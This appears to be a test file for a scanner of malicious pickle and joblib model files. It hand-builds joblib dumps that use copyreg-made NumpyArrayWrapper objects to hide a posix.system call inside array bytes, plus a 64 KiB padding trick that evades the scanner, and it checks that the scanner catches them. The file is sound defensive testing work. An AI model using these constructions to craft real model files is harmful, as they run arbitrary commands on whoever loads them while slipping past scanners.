"""joblib's array wrapper, recognised the way ``isinstance`` recognises it (issue 11, class 4).

``joblib.numpy_pickle.NumpyUnpickler.load_build`` checks ``isinstance(stack[-1],
NumpyArrayWrapper)`` after every BUILD and then reads raw array bytes straight from the file,
outside the pickle grammar. A wrapper made through ``copyreg._reconstructor`` passes that
check; a scanner that only knows ``NumpyArrayWrapper(...)`` calls reads the array bytes as
opcodes. Here those bytes are a BINBYTES header whose length swallows an ``os.system`` call,
so the scanner saw one bytes literal and no call at all.
"""

from __future__ import annotations

import struct
from pathlib import Path

from mamori.findings import Verdict


def _global(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def _str(text: str) -> bytes:
    data = text.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def _wrapper_state(n: int) -> bytes:
    """State of a wrapper for ``n`` uint8 values, as joblib writes it (no alignment key)."""
    dtype = (
        _global("numpy", "dtype")
        + _str("u1")
        + b"\x89\x88\x87R"  # dtype('u1', False, True)
        + b"(K\x03"
        + _str("|")
        + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"  # the dtype's BUILD state
    )
    return (
        b"}("
        + _str("subclass")
        + _global("numpy", "ndarray")
        + _str("shape")
        + b"K"
        + bytes([n])
        + b"\x85"
        + _str("order")
        + _str("C")
        + _str("dtype")
        + dtype
        + _str("allow_mmap")
        + b"\x89u"
    )


def _dump(wrapper: bytes, command: str) -> bytes:
    call = _global("posix", "system") + b"(" + b"S'" + command.encode() + b"'\ntR0"
    array = b"B" + struct.pack("<I", len(call))  # 5 bytes joblib skips; BINBYTES to a reader
    return b"\x80\x02" + wrapper + _wrapper_state(len(array)) + b"b" + array + call + b"0."


def test_a_wrapper_built_by_copyreg_reconstructor_hides_a_call_in_array_bytes(
    attack, verdict_of, tmp_path: Path
):
    wrapper = (
        _global("copyreg", "_reconstructor")
        + _global("joblib.numpy_pickle", "NumpyArrayWrapper")
        + _global("builtins", "object")
        + b"N\x87R"
    )
    path = tmp_path / "model.joblib"
    path.write_bytes(_dump(wrapper, attack.payload_command()))
    assert attack.runs("joblib", path)
    assert verdict_of(path) is Verdict.UNSAFE


def test_a_wrapper_built_by_copyreg_newobj_hides_a_call_in_array_bytes(
    attack, verdict_of, tmp_path: Path
):
    wrapper = (
        _global("copyreg", "__newobj__")
        + _global("joblib.numpy_pickle", "NumpyArrayWrapper")
        + b"\x85R"
    )
    path = tmp_path / "model.pkl"
    path.write_bytes(_dump(wrapper, attack.payload_command()))
    assert attack.runs("joblib", path)
    assert verdict_of(path) is Verdict.UNSAFE


def test_a_wrapper_made_in_a_way_the_scanner_does_not_mirror_is_reported(
    attack, verdict_of, tmp_path: Path
):
    # copyreg._reconstructor through a memo slot and a tuple built at load time by
    # builtins.tuple: the scanner cannot see the first argument is the wrapper class
    # directly, only that the class is involved; that ambiguity alone makes it UNSAFE.
    wrapper = (
        _global("copyreg", "_reconstructor")
        + _global("builtins", "tuple")
        + b"("
        + _global("joblib.numpy_pickle", "NumpyArrayWrapper")
        + _global("builtins", "object")
        + b"Nl\x85R"  # tuple([W, object, None])
        + b"R"
    )
    path = tmp_path / "model.joblib"
    path.write_bytes(_dump(wrapper, attack.payload_command()))
    assert attack.runs("joblib", path)
    assert verdict_of(path) is Verdict.UNSAFE


def test_a_copyreg_wrapper_after_the_first_64_kib_is_still_read_as_joblib_reads_it(
    attack, verdict_of, tmp_path: Path
):
    # The joblib handler claims dumps that name joblib.numpy_pickle in their first 64 KiB; a
    # large first entry pushes the wrapper past that, to the plain pickle handler.
    wrapper = (
        _global("copyreg", "_reconstructor")
        + _global("joblib.numpy_pickle", "NumpyArrayWrapper")
        + _global("builtins", "object")
        + b"N\x87R"
    )
    dump = _dump(wrapper, attack.payload_command())
    filler = _str("x" * (80 << 10)) + b"0"  # a large string, popped
    data = dump[:2] + filler + dump[2:]
    assert b"joblib.numpy_pickle" not in data[: 64 << 10]
    path = tmp_path / "model.pkl"
    path.write_bytes(data)
    assert attack.runs("joblib", path)
    assert verdict_of(path) is Verdict.UNSAFE
